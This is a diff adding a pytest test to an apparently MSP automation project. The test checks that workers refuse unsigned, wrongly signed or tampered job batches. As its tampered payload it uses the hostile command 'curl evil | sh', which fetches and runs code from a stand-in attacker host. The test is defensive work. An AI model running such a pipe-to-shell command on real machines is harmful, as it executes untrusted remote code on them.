@@ -128,3 +128,22 @@ def test_a_host_another_delivery_is_running_is_left_to_it_until_its_lease_runs_o
         assert time.monotonic() - started >= 1.0
     finally:
         store.close()
+
+
+def test_a_worker_that_knows_the_msps_key_runs_only_batches_it_signed(tmp_path: Path) -> None:
+    """Whoever can publish to the broker cannot send work to such a worker: an unsigned
+    batch, one signed by another key, and a signed one changed afterwards are refused."""
+    from mspauto.signing import SigningKey, generate_key
+
+    keys = []
+    for name in ("msp", "other"):
+        generate_key(tmp_path / name, tmp_path / f"{name}.pub", comment=name)
+        keys.append(SigningKey.load(tmp_path / name))
+    msp, other = keys
+    batch = Batch("run-1", "acme", ("web1",), EXEC, "0" * 64)
+    assert Batch.read(batch.message(msp), msp.public_key) == batch
+    assert Batch.read(batch.message(), None) == batch  # a worker without any key
+    changed = {**batch.message(msp), "job": {**EXEC, "command": "curl evil | sh"}}
+    for message in (batch.message(), batch.message(other), changed):
+        with pytest.raises(BatchRefused, match="not signed by the MSP's key"):
+            Batch.read(message, msp.public_key)
